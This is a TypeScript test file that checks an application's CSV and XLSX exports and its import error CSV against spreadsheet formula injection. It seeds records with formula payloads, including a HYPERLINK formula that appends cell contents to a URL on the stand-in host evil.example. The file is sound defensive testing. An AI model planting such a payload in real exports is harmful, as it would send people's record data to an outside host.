import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { neutraliseFormula } from "../../shared/csv-safe.ts";
import { readSettings, updateSettings } from "../modules/settings/settings.ts";
import { setupTestApp } from "../test/app.ts";
import { buildPatient, buildProspect } from "../test/factories.ts";

/**
 * CSV injection (issue 12): whatever a record holds, no cell of a file Relais
 * writes starts a spreadsheet formula. Every file route is listed here, so a
 * new CSV export fails this test until it is added to it.
 */
const CSV_ROUTES = ["/api/prospects/export", "/api/patients/export", "/api/reports/conversion.csv"];
/** The import answers with a CSV of the refused rows when asked (`?errors=csv`): checked below. */
/** XLSX and PDF files: exceljs writes text as text cells (never as formulas); checked below for two of them. */
const OTHER_FILE_ROUTES = [
  "/api/reports/conversion.xlsx",
  "/api/reports/compliance/monthly.xlsx",
  "/api/reports/compliance/monthly.pdf",
  "/api/digest/export.xlsx",
  "/api/calls/export",
  // Formula safety tested in server/modules/surveys/surveys.test.ts.
  "/api/surveys/results.xlsx",
  // A PDF (no spreadsheet cell); its content is tested in server/modules/vaccinations/vaccinations.test.ts.
  "/api/patients/:id/vaccinations.pdf",
  // Formula safety tested in server/modules/mothers-group/mothers-group.test.ts.
  "/api/mothers-group.xlsx",
  // The right of access (JSON and PDF) and the processing register: tested in server/modules/data-rights/.
  "/api/people/:id/export.json",
  "/api/people/:id/export.pdf",
  "/api/data-rights/register.pdf",
];

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Clic")',
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];
/** What a spreadsheet may run: a cell starting with = + - @, a tab or a carriage return, unless only signed numbers. */
const dangerous = (cell: string) => neutraliseFormula(cell) !== cell;

// Monday 30 November 2026 in Dakar; the conversion cohort is one day of November.
const NOW = "2026-11-30T10:00:00Z";
const DAY = "2026-11-10";
const t = setupTestApp({ now: NOW });

async function arrange() {
  const { system, clock, services } = t.current;
  const { version, settings } = await readSettings(services.database.db);
  await updateSettings(system, {
    version,
    settings: {
      ...settings,
      origins: settings.origins.map((o) => (o.code === "website" ? { ...o, label: "@Site(web)" } : o)),
    },
  });
  clock.set(`${DAY}T09:00:00Z`);
  for (const payload of PAYLOADS) {
    const prospect = await buildProspect(system, { origin: "website", firstContactDate: DAY });
    const patient = await buildPatient(system);
    // Written to the base as is (the forms trim and check names; an import or an older version may not have).
    await services.database.query(
      "update people set last_name = $1, first_name = $1, ehr_number = case when kind = 'patient' then $1 end where id = any($2::uuid[])",
      [payload, [prospect.id, patient.id]],
    );
  }
  clock.set(NOW);
}

describe("CSV files never carry a spreadsheet formula (OWASP: a leading single quote)", () => {
  it("lists every file the API writes", () => {
    const files = t.current.app.routeCatalog
      .map((r) => r.url)
      .filter((url) => /\/export|\.(csv|xlsx|pdf)$/.test(url))
      .sort();
    expect(files).toEqual([...CSV_ROUTES, ...OTHER_FILE_ROUTES].sort());
  });

  it("neutralises each dangerous prefix in every CSV export, phone numbers left readable", async () => {
    await arrange();
    const manager = await t.current.signIn("prospects_manager");
    const urls = [
      `${CSV_ROUTES[0]}?format=csv`,
      `${CSV_ROUTES[1]}?format=csv`,
      `${CSV_ROUTES[2]}?from=${DAY}&to=${DAY}`,
    ];
    for (const url of urls) {
      const response = await manager.request("GET", url);
      expect(response.statusCode, `${url}: ${response.body}`).toBe(200);
      expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
      const rows = parse(response.rawPayload.toString("utf8").slice(1), { delimiter: ";" }) as string[][];
      const cells = rows.flat();
      expect(cells.filter(dangerous), url).toEqual([]);
      for (const payload of PAYLOADS) expect(cells, `${url}: ${JSON.stringify(payload)}`).toContain(`'${payload}`);
      // E.164 numbers and their international format keep their « + ».
      expect(
        cells.some((cell) => /^\+221 ?7\d/.test(cell)),
        url,
      ).toBe(true);
    }
    const prospects = await manager.request("GET", `${CSV_ROUTES[0]}?format=csv&columns=origin`);
    expect(parse(prospects.body.slice(1), { delimiter: ";" }).flat()).toContain("'@Site(web)");
  });

  it("the import's CSV of refused rows too", async () => {
    const admin = await t.current.signIn("admin");
    const header = "nom;prenom;telephone;date_naissance;date_creation;origine;temperature;email";
    const quoted = (p: string) => `"${p.replaceAll('"', '""')}"`;
    const rows = PAYLOADS.map((p) => Array.from({ length: 8 }, () => quoted(p)).join(";"));
    const response = await admin.request(
      "POST",
      "/api/import/prospects?dryRun=true&errors=csv",
      Buffer.from([header, ...rows].join("\r\n")),
      {
        "content-type": "text/csv",
      },
    );
    expect(response.statusCode, response.body).toBe(200);
    const cells = (parse(response.body.replace(/^\ufeff/, ""), { delimiter: ";" }) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(3);
    expect(cells.filter(dangerous)).toEqual([]);
  });

  it("XLSX exports hold the same values as text cells, never as formulas", async () => {
    const manager = await t.current.signIn("prospects_manager");
    for (const url of [`${CSV_ROUTES[0]}?format=xlsx`, `${OTHER_FILE_ROUTES[0]}?from=${DAY}&to=${DAY}`]) {
      const response = await manager.request("GET", url);
      expect(response.statusCode, url).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const found: string[] = [];
      workbook.worksheets[0]?.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, url).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === "string" && PAYLOADS.includes(cell.value)) found.push(cell.value);
        }),
      );
      // XML turns a carriage return into a line feed: that value is only checked not to be a formula.
      expect(new Set(found), url).toEqual(new Set(PAYLOADS.filter((p) => !p.startsWith("\r"))));
    }
  });
});
